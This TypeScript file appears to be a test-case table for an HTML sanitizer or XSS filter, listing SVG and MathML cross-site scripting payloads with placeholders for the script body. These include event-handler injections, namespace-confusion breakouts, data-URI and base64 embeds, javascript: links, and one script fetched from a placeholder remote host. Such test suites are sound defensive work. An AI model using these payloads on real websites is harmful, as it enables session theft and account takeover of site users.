// SVG and MathML: namespaces where other rules hold.
import type { Kind } from './case.ts'

export const foreign: Kind = {
  kind: 'SVG and MathML',
  cases: {
    'an svg with onload': '<svg onload=RUN>',
    'an svg with onload, no space': '<svg/onload=RUN>',
    'a script in svg': '<svg><script>RUN</script></svg>',
    'a script in svg, entities': '<svg><script>HEX{RUN}</script></svg>',
    'a script in svg by xlink': '<svg><script xlink:href="data:text/javascript,RUN"></script></svg>',
    'a script in svg that closes itself': '<svg><script/href="REMOTE/s.js"/></svg>',
    'a script in svg, CDATA': '<svg><script><![CDATA[RUN]]></script></svg>',
    'a desc of svg that breaks out': '<svg><desc><img src=x onerror=RUN></desc></svg>',
    'an svg animation that begins': '<svg><animate onbegin=RUN attributeName=x dur=1s>',
    'an svg animation that repeats': '<svg><animate onrepeat=RUN attributeName=x dur=1ms repeatCount=2>',
    'an svg set that begins': '<svg><set onbegin=RUN attributeName=x to=1></svg>',
    'an svg use of data': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='RUN'/></svg>#x"></svg>`,
    'an svg foreign object':
      '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
    'an svg as a picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">`,
    'an svg as an object': `<object type="image/svg+xml" data="data:image/svg+xml;base64,BASE64{<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>}"></object>`,
    'an svg as an embed': `<embed type="image/svg+xml" src="data:image/svg+xml;base64,BASE64{<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>}">`,
    'an svg picture that fails': '<svg><image href=x onerror=RUN /></svg>',
    'an svg style that breaks out': '<svg><style><img src=x onerror=RUN></style></svg>',
    'an svg that has the focus': '<svg><a tabindex=1 autofocus onfocus=RUN><text y=20>x</text></a></svg>',
    'an svg with a declared entity':
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "RUN">]><svg onload="RUN">&x;</svg>',
    'an svg with a prefix':
      '<svg:svg onload=RUN></svg:svg><svg xmlns:x="http://www.w3.org/1999/xhtml"><x:img src=x onerror=RUN /><x:script>RUN</x:script></svg>',
    'mathml that breaks out':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    'mathml with an annotation':
      '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
    'mathml with a script': '<math><mi><script>RUN</script></mi></math>',
    'mathml with a handler':
      '<style>@keyframes x{from{left:0}}</style><math style="animation:x 1ms;display:block" onanimationstart=RUN><mi>x</mi></math>',
  },
}

export const clickedForeign: Kind = {
  kind: 'SVG and MathML',
  click: true,
  cases: {
    'an svg that animates an address':
      '<svg width=140 height=60><a><animate attributeName=href values="javascript:RUN" /><text x=0 y=20 font-size=30>xxxxxxxx</text></a></svg>',
    'an svg that animates an address from to':
      '<svg width=140 height=60><a xlink:href=?><animate attributeName="xlink:href" begin=0 from="javascript:RUN" to="&" /><rect width=140 height=60 /></a></svg>',
    'mathml that is a link': '<math><mtext href="javascript:RUN">xxxxxxxx</mtext></math>',
    'mathml with an action':
      '<math><maction actiontype="statusline#x" xlink:href="javascript:RUN">xxxxxxxx</maction></math>',
    'an svg with a handler on a click': '<svg width=140 height=60><rect width=140 height=60 onclick=RUN /></svg>',
  },
}
